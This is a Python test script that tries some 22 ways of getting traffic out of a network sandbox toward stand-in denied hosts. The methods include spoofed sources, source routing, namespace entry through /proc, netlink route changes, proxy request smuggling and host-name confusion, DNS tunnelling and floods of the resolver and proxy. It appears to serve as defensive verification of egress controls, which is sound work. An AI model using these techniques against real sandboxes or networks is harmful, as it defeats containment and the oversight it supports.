"""Ways out of the sandbox's network, one by one, each in a Python of its own. Runs inside, without packages.

    python3 netattacks.py MARK NAME...

An attack prints OUT when it believes that it got through. Whatever it sends has MARK and its own number in it, so that
the services outside can tell as well; a crash is told as CRASH, so that no attack holds by never having been tried.
"""

from __future__ import annotations

import ctypes
import os
import select
import socket
import struct
import subprocess
import sys
import time

DENIED, DENIED6 = "192.175.48.20", "2620:4f:8000:1::20"
IP_OPTIONS, IP_FREEBIND, IPV6_RTHDR, IPV6_FREEBIND, IPV6_MTU = 4, 15, 57, 78, 24
MSG_FASTOPEN, MPTCP, SCTP, DCCP, UDPLITE = 0x20000000, 262, 132, 33, 136
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
SECONDS = 1.0
PROXY = ("127.0.0.1", 61080)
RESOLVER = ("127.0.0.1", 53)
OTHER_KINDS = (2, 5, 6, 12, 15, 16, 33, 64, 65, 250, 251, 252, 255)
MARK = b""


def tell(what: str) -> None:
    sys.stdout.write(f"OUT {what}\n")


def allowed(family: int) -> str:
    return str(socket.getaddrinfo("allowed.test", 7, family, socket.SOCK_STREAM)[0][4][0])


def own(family: int) -> str:
    """Return the address that this namespace sends from."""
    with socket.socket(family, socket.SOCK_DGRAM) as probe:
        probe.connect((allowed(family), 7))
        return str(probe.getsockname()[0])


def foreign(address: str, port: int, kind: int) -> socket.socket:
    """Return a socket that is bound to an address of somebody else, which IPv6 leaves to everybody."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    made = socket.socket(family, kind)
    level, option = (socket.IPPROTO_IPV6, IPV6_FREEBIND) if ":" in address else (socket.IPPROTO_IP, IP_FREEBIND)
    made.setsockopt(level, option, 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.bind((address, port))
    made.settimeout(0.2)
    return made


def try_to(act: object, *arguments: object) -> object:
    """Call and return the result; an error of the system is what a refusal looks like."""
    try:
        return act(*arguments)  # type: ignore[operator]
    except OSError:
        return None


def talk(connection: socket.socket, address: object) -> None:
    """Connect and see whether the echo comes back."""
    connection.settimeout(SECONDS)
    try:
        connection.connect(address)
        connection.send(MARK)
        if MARK in connection.recv(100):
            tell(f"{address} answered")
    except OSError:
        return
    finally:
        connection.close()


def an_answer_to_a_packet_from_a_foreign_source() -> None:
    """A packet "from" the denied host to ourselves makes ours to it an answer, for the kernel's connection tracking."""
    for family, target in ((socket.AF_INET6, DENIED6), (socket.AF_INET, DENIED)):
        here = own(family)
        with socket.socket(family, socket.SOCK_DGRAM) as mine:
            mine.bind((here, 6666))
            spoofed = try_to(foreign, target, 5353, socket.SOCK_DGRAM)
            if isinstance(spoofed, socket.socket):
                try_to(spoofed.sendto, b"x", (here, 6666))
                spoofed.close()
            talk(mine, (target, 5353))


def a_connection_opened_from_both_ends() -> None:
    """The same with TCP: the foreign end's SYN comes first, ours is then taken for the answer (simultaneous open)."""
    here = own(socket.AF_INET6)
    listener = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    mine = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    for one in (listener, mine):
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        one.bind((here, 6667))
    listener.listen()
    with foreign(DENIED6, 5353, socket.SOCK_STREAM) as spoofed:
        spoofed.setblocking(False)
        try_to(spoofed.connect, (here, 6667))
        time.sleep(0.05)
        listener.close()
        talk(mine, (DENIED6, 5353))


def an_answer_to_a_packet_to_an_allowed_host() -> None:
    """A packet "from" the denied host to an allowed one is let out for where it goes; then "its answer" follows."""
    friend = allowed(socket.AF_INET6)
    with foreign(DENIED6, 5354, socket.SOCK_DGRAM) as there:
        try_to(there.sendto, b"x", (friend, 5353))
    with foreign(friend, 5353, socket.SOCK_DGRAM) as back:
        try_to(back.sendto, MARK, (DENIED6, 5354))
        try_to(back.sendto, MARK, (DENIED6, 5353))


def a_foreign_source_to_a_denied_host() -> None:
    for source in (allowed(socket.AF_INET6), "::1", "fe80::2", "fd00::2"):
        made = try_to(foreign, source, 6668, socket.SOCK_DGRAM)
        if isinstance(made, socket.socket):
            try_to(made.sendto, MARK, (DENIED6, 5353))
            made.close()


def the_socket_that_reached_an_allowed_host() -> None:
    """One socket, and one source port: first to an allowed host, then to the denied one."""
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        first = socket.socket(socket.AF_INET, kind)
        first.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        first.settimeout(SECONDS)
        try_to(first.connect, (allowed(socket.AF_INET), 7))
        port = first.getsockname()[1]
        disconnect(first)
        talk(first, (DENIED, 7))
        second = socket.socket(socket.AF_INET, kind)
        second.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try_to(second.bind, ("", port))
        talk(second, (DENIED, 7))


def disconnect(connection: socket.socket) -> None:
    """Take a socket's address away (connect(2), AF_UNSPEC)."""
    ctypes.CDLL(None).connect(connection.fileno(), struct.pack("=H14x", 0), 16)


def source_routes() -> None:
    """By way of an allowed host: loose source routing in IPv4, segment routing in IPv6."""
    loose = bytes((131, 7, 4)) + socket.inet_aton(DENIED) + b"\0"
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try_to(connection.setsockopt, socket.IPPROTO_IP, IP_OPTIONS, loose)
    talk_quietly(connection, (allowed(socket.AF_INET), 7))
    segments = [socket.inet_pton(socket.AF_INET6, address) for address in (DENIED6, allowed(socket.AF_INET6))]
    header = bytes((0, 4, 4, 1, 1, 0, 0, 0)) + b"".join(segments)
    packet = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    packet.bind(("::", 0))
    talk_quietly(packet, (allowed(socket.AF_INET6), 5353))
    for target in (DENIED6, allowed(socket.AF_INET6)):
        routed = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        try_to(routed.setsockopt, socket.IPPROTO_IPV6, IPV6_RTHDR, header)
        talk_quietly(routed, (target, 5353))


def talk_quietly(connection: socket.socket, address: object) -> None:
    """Connect and send; that an allowed host answers is no news."""
    connection.settimeout(0.3)
    try_to(connection.connect, address)
    try_to(connection.send, MARK)
    connection.close()


def fragments() -> None:
    """A datagram in pieces, of which only the first has a port."""
    connection = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    try_to(connection.setsockopt, socket.IPPROTO_IPV6, IPV6_MTU, 1280)
    for _ in range(3):
        try_to(connection.sendto, MARK + bytes(4000), (DENIED6, 5353))
    connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3):
        try_to(connection.sendto, MARK + bytes(65000), (DENIED, 5353))


def data_in_the_first_packet() -> None:
    """TCP Fast Open (RFC 7413)."""
    for family, target in ((socket.AF_INET, DENIED), (socket.AF_INET6, DENIED6)):
        connection = socket.socket(family, socket.SOCK_STREAM)
        if try_to(connection.sendto, MARK, MSG_FASTOPEN, (target, 7)) and try_to(connection.recv, 100):
            tell("sent")


def other_transports() -> None:
    for kind, protocol in (
        (socket.SOCK_STREAM, MPTCP),
        (socket.SOCK_STREAM, SCTP),
        (socket.SOCK_SEQPACKET, SCTP),
        (6, DCCP),
        (socket.SOCK_DGRAM, UDPLITE),
    ):
        made = try_to(socket.socket, socket.AF_INET, kind, protocol)
        if isinstance(made, socket.socket):
            talk(made, (DENIED, 7))


def other_families() -> None:
    """Virtual machine sockets (40) lead to the hypervisor; Bluetooth (31) has no namespaces; XDP (44) is raw."""
    for family, kind in ((40, socket.SOCK_STREAM), (31, socket.SOCK_RAW), (44, socket.SOCK_RAW)):
        if try_to(socket.socket, family, kind, 0):
            tell(f"family {family}")


def bound_devices() -> None:
    """SO_BINDTODEVICE needs no right; so is any device the way out?"""
    for name in [name for _, name in socket.if_nameindex()]:
        for family, target in ((socket.AF_INET, DENIED), (socket.AF_INET6, DENIED6)):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                connection = socket.socket(family, kind)
                try_to(connection.setsockopt, socket.SOL_SOCKET, 25, name.encode() + b"\0")
                talk(connection, (target, 7))


def raw_sockets_in_a_user_namespace() -> None:
    """Every capability over a namespace of one's own is none over the network's."""
    for flags in (CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNET):
        child = os.fork()
        if child == 0:
            if ctypes.CDLL(None).unshare(flags) == 0:
                for family, kind, protocol in ((2, 3, 255), (10, 3, 58), (17, 3, 0x0300)):
                    made = try_to(socket.socket, family, kind, protocol)
                    if made and not flags & CLONE_NEWNET:
                        tell(f"raw socket {family}")
                    elif isinstance(made, socket.socket) and family == socket.AF_INET:
                        try_to(made.sendto, MARK, (DENIED, 0))
            sys.stdout.flush()
            os._exit(0)
        os.waitpid(child, 0)


def namespaces_of_other_processes() -> None:
    """Enter whatever network another process has, by way of proc."""
    before = os.readlink("/proc/self/ns/net")
    for process in [name for name in os.listdir("/proc") if name.isdigit()]:
        for kind in ("user", "net"):
            descriptor = try_to(os.open, f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            if isinstance(descriptor, int):
                ctypes.CDLL(None).setns(descriptor, 0)
    if os.readlink("/proc/self/ns/net") != before:
        tell("in another network")


def netlink() -> None:
    """Addresses, routes, rules of routing, and connection tracking, asked for without any tool."""
    address = struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 1, bytes((10, 9, 9, 9)))
    route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHi", 8, 4, 1)
    link = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
    generic = struct.pack("=BBH", 2, 0, 0)
    for protocol, kind, body in (
        (0, 20, address),
        (0, 24, route),
        (0, 32, route),
        (0, 16, link),
        (12, 1 << 8, generic),
        (12, 1 << 8 | 2, generic),
        (12, 3 << 8 | 2, generic),
        (12, 10 << 8, generic),
    ):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as channel:
            channel.settimeout(SECONDS)
            channel.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
            (number,) = struct.unpack_from("=i", channel.recv(4096), 16)
            if number not in (-1, -95, -22):  # EPERM, EOPNOTSUPP, EINVAL
                tell(f"message {kind} of {protocol}: {number}")


def broadcast_and_multicast() -> None:
    for address in ("255.255.255.255", "192.175.48.255", "10.0.2.255", "224.0.0.251", "239.255.255.250", "ff02::fb"):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            for port in (5353, 7):
                try_to(connection.sendto, MARK, (address, port))


def a_flood_of_questions_to_the_judge() -> None:
    """More first packets than the kernel keeps for him; then, and meanwhile, ones that matter."""
    held = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(100)]
    for _ in range(10):
        for one in held:
            try_to(one.sendto, MARK, (DENIED, 5353))
    waiting = []
    for port in range(1, 400):
        one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        one.setblocking(False)
        try_to(one.connect, (DENIED, 7 if port % 2 else port))
        waiting.append(one)
    if any(try_to(one.send, MARK) for one in select.select([], waiting, [], 0.3)[1]):
        tell("connected in a flood")
    for one in (*held, *waiting):
        one.close()
    with socket.create_connection(("allowed.test", 7), timeout=10) as connection:
        connection.sendall(b"still")
        if connection.recv(5) != b"still":
            raise SystemError("the network did not survive")


def proxy(request: bytes) -> bytes:
    """Send the proxy something and return the first of what it says."""
    try:
        with socket.create_connection(PROXY, timeout=SECONDS) as connection:
            connection.sendall(request)
            said = connection.recv(4096)
            if b" 200 " in said.split(b"\r\n")[0] and request.startswith(b"CONNECT"):
                connection.sendall(MARK)
                said += connection.recv(4096)
            return said
    except OSError:
        return b""


def names_in_a_proxys_request() -> None:
    """Every way to write a denied host so that a hurried reader takes it for an allowed one."""
    for written in (
        b"denied.test:7", b"DENIED.TEST.:7", b"192.175.48.20:7", b"[2620:4f:8000:1::20]:7", b"[::ffff:192.175.48.20]:7",
        b"3232706580:7", b"0300.0257.060.024:7", b"0xc0af3014:7", b"192.175.12308:7", b"192.175.48.20.:7",
        b"localhost:7",
        b"allowed.test@denied.test:7", b"allowed.test:7@denied.test:7", b"denied.test:7#allowed.test:7",
        b"denied.test:7/allowed.test:7", b"denied.test%00.allowed.test:7", b"denied.test\0.allowed.test:7",
        b"denied.test\t.allowed.test:7", b"denied.test\\.allowed.test:7", b"\xe2\x93\x93enied.test:7",
        b"denied.test:7,allowed.test:7", b"127.0.0.1:7", b"0.0.0.0:7", b"[::]:7", b"[::1]:7", b"[fe80::1%lo]:7",
        b"10.0.2.2:7", b"169.254.169.254:80", b"allowed.test.denied.test:7",
    ):  # fmt: skip
        said = proxy(b"CONNECT " + written + b" HTTP/1.1\r\nHost: allowed.test\r\nX-Host: allowed.test\r\n\r\n")
        if MARK in said:
            tell(f"CONNECT {written!r}")
        host = written.rpartition(b":")[0]
        said = proxy(b"GET http://" + host + b"/" + MARK + b" HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        if b"hello GET" in said:
            tell(f"GET {written!r}")


def requests_inside_of_requests() -> None:
    """A second request behind the first one, in its body, its headers or its line."""
    second = b"CONNECT denied.test:7 HTTP/1.1\r\n\r\n" + MARK
    other = b"GET http://denied.test/" + MARK + b" HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    for request in (
        b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + other,
        b"GET http://allowed.test/ HTTP/1.1\nHost: denied.test\n\n" + other,
        b"POST http://allowed.test/ HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        + other,
        b"CONNECT allowed.test:7 HTTP/1.1\r\n" + second + b"\r\n\r\n",
        b"CONNECT allowed.test:7 HTTP/1.1\r\n\r\n" + second,
        b"GET http://allowed.test/ HTTP/1.1\r\nX: y\n" + second + b"\r\n\r\n",
        b"CONNECT allowed.test:7\rdenied.test:7 HTTP/1.1\r\n\r\n",
        b"CONNECT  denied.test:7 HTTP/1.1\r\n\r\n",
        b" CONNECT denied.test:7 HTTP/1.1\r\n\r\n",
        b"\r\nCONNECT denied.test:7 HTTP/1.1\r\n\r\n",
        b"connect denied.test:7 HTTP/1.1\r\n\r\n",
        b"GET http://allowed.test:80@denied.test/ HTTP/1.1\r\n\r\n",
        b"GET http://denied.test#allowed.test/ HTTP/1.1\r\n\r\n",
        b"GET http://denied.test?allowed.test/ HTTP/1.1\r\n\r\n",
        b"GET /" + MARK + b" HTTP/1.1\r\nHost: denied.test\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        bytes((5, 1, 0)) + bytes((5, 1, 0, 3, 11)) + b"denied.test\0\7",
        bytes((4, 1, 0, 7)) + socket.inet_aton(DENIED) + b"\0",
    ):
        said = proxy(request)
        if request.startswith(b"CONNECT allowed.test:7"):
            continue  # the echo of an allowed host: whether anything reached another one is seen there
        if b"denied" in said.split(b"\r\n\r\n", 1)[-1] and b"not in allow_net" not in said and b"aigate:" not in said:
            tell(repr(said[:80]))


def question(labels: list[bytes], kind: int = 1, *, tail: bytes = b"", counts: tuple[int, ...] = (1, 0, 0, 0)) -> bytes:
    """Return a DNS message; labels may hold any byte."""
    head = struct.pack("!HHHHHH", 7, 0x100, *counts)
    return (
        head + b"".join(bytes((len(label),)) + label for label in labels) + b"\0" + struct.pack("!HH", kind, 1) + tail
    )


def data_in_questions() -> None:
    """Whatever part of a question could carry something to a name server."""
    option = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 4 + len(MARK)) + struct.pack("!HH", 65001, len(MARK)) + MARK
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.3)
        for message in (
            question([MARK, b"evil", b"test"]),
            question([MARK, b"allowed", b"test"]),
            question([MARK + b".allowed", b"test"]),
            question([MARK, b"allowed.test"]),
            question([MARK + b"\0", b"allowed", b"test"]),
            question([MARK, b"localhost"]),
            question([MARK, b"local"]),
            question([MARK, b"corp", b"test"]),
            question([MARK, b"in-addr", b"arpa"], 12),
            question([b"allowed", b"test"], 1, tail=option, counts=(1, 0, 0, 1)),
            question([b"allowed", b"test"], 1, tail=question([MARK, b"evil", b"test"])[12:], counts=(2, 0, 0, 0)),
            question([b"allowed", b"test", MARK]),
            question([b"allowed", b"test"], 255) + MARK,
            *(question([MARK, b"evil", b"test"], kind) for kind in OTHER_KINDS),
        ):
            asking.sendto(message, RESOLVER)
            try_to(asking.recv, 4096)


def a_resolver_that_is_held_up() -> None:
    """Two hundred connections that never end their question; others are answered all the same."""
    held = []
    for _ in range(200):
        connection = try_to(socket.create_connection, RESOLVER, 1)
        if isinstance(connection, socket.socket):
            try_to(connection.send, b"\0\x40\0")
            held.append(connection)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(3)
        asking.sendto(question([b"allowed", b"test"]), RESOLVER)
        if asking.recv(500)[7] != 1:
            raise SystemError("the resolver did not survive")
    talk(socket.socket(socket.AF_INET, socket.SOCK_STREAM), (DENIED, 7))


def a_proxy_that_is_held_up() -> None:
    """A thousand connections that never end their request; others are served all the same."""
    held = []
    for _ in range(1000):
        connection = try_to(socket.create_connection, PROXY, 1)
        if not isinstance(connection, socket.socket):
            break
        try_to(connection.send, b"CONNECT denied.test:7 HTTP/1.1\r\nX: ")
        held.append(connection)
    talk(socket.socket(socket.AF_INET, socket.SOCK_STREAM), (DENIED, 7))
    with socket.create_connection(("allowed.test", 7), timeout=10) as connection:
        connection.sendall(b"still")
        if connection.recv(5) != b"still":
            raise SystemError("the network did not survive")


def the_relays_own_ports() -> None:
    """What is listened on inside is no way out for what it was not made for."""
    for port in (61001, 61080, 53):
        for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            talk(socket.socket(family, socket.SOCK_STREAM), (address, port))


ATTACKS = (
    "an_answer_to_a_packet_from_a_foreign_source",
    "a_connection_opened_from_both_ends",
    "an_answer_to_a_packet_to_an_allowed_host",
    "a_foreign_source_to_a_denied_host",
    "the_socket_that_reached_an_allowed_host",
    "source_routes",
    "fragments",
    "data_in_the_first_packet",
    "other_transports",
    "other_families",
    "bound_devices",
    "raw_sockets_in_a_user_namespace",
    "namespaces_of_other_processes",
    "netlink",
    "broadcast_and_multicast",
    "a_flood_of_questions_to_the_judge",
    "names_in_a_proxys_request",
    "requests_inside_of_requests",
    "data_in_questions",
    "a_resolver_that_is_held_up",
    "a_proxy_that_is_held_up",
    "the_relays_own_ports",
)


def main() -> None:
    mark, *names = sys.argv[1:]
    if len(names) == 1:
        globals()["MARK"] = mark.encode()
        globals()[names[0]]()
        sys.stdout.write("DONE\n")
        return
    for number, name in enumerate(names):
        command = [sys.executable, "-I", "-S", __file__, f"{mark}{number:02}", name]
        done = subprocess.run(command, capture_output=True, text=True, timeout=30, check=False)
        said = done.stdout.split("\n") if done.returncode == 0 else [*done.stdout.split("\n"), f"CRASH {done.stderr}"]
        sys.stdout.writelines(f"{name}\t{line!r}\n" for line in said if line)
        sys.stdout.flush()


if __name__ == "__main__":
    main()
